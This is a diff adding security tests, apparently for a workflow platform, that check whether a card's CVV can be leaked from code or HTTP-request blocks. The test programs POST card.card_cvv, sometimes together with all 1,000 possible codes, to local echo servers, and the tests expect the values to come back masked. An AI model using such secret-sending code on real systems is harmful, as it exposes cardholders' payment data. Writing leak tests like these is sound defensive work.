@@ -81,4 +81,48 @@ describe('the code of a card', { tags: ['security'] }, () => {
       own: ['047', '048'],
     });
   });
+
+  it('cannot be read by a program that has sent it, from what it writes itself or another server lists', async () => {
+    const [url, other] = [await echoServer(), await echoServer()];
+    const code = `
+      const all = Array.from({ length: 1000 }, (_, code) => String(code).padStart(3, '0'));
+      const headers = { 'content-type': 'application/json' };
+      await fetch('${url}', { method: 'POST', body: JSON.stringify({ cvv: card.card_cvv }), headers });
+      const listed = await (await fetch('${other}', { method: 'POST', body: JSON.stringify(all), headers })).json();
+      return { written: all, listed: listed.sent };`;
+    const run = await start({ block_type: 'code', code, parameter_keys: ['card'] });
+    expect(run.failureReason).toBeNull();
+    expect(output(run)).toEqual({ written: every, listed: every });
+    const failing = await start({
+      ...{ block_type: 'code', parameter_keys: ['card'] },
+      code: `await fetch('${url}', { method: 'POST', body: card.card_cvv });
+        fail('047');`,
+    });
+    expect(failing.failureReason).toContain('047');
+  });
+
+  it.each([
+    ['http_request', { body: { cvv: '{{ card.card_cvv }}', guesses: every } }],
+    [
+      'code',
+      {
+        code: `const body = JSON.stringify({ cvv: card.card_cvv, guesses: ${JSON.stringify(every)} });
+          const response = await fetch('URL', { method: 'POST', body, headers: { 'content-type': 'application/json' } });
+          return { response_body: await response.json() };`,
+        parameter_keys: ['card'],
+      },
+    ],
+  ])('cannot be read from an answer that repeats all codes beside it, by %s', async (type, members) => {
+    const url = await echoServer();
+    const json = JSON.stringify({
+      block_type: type,
+      ...(type === 'code' ? {} : { url, method: 'POST' }),
+      ...members,
+    });
+    const run = await start(JSON.parse(json.replaceAll('URL', url)));
+    expect(run.failureReason).toBeNull();
+    expect(output(run)).toMatchObject({
+      response_body: { sent: { cvv: '*****', guesses: every.map(() => '*****') } },
+    });
+  });
 });
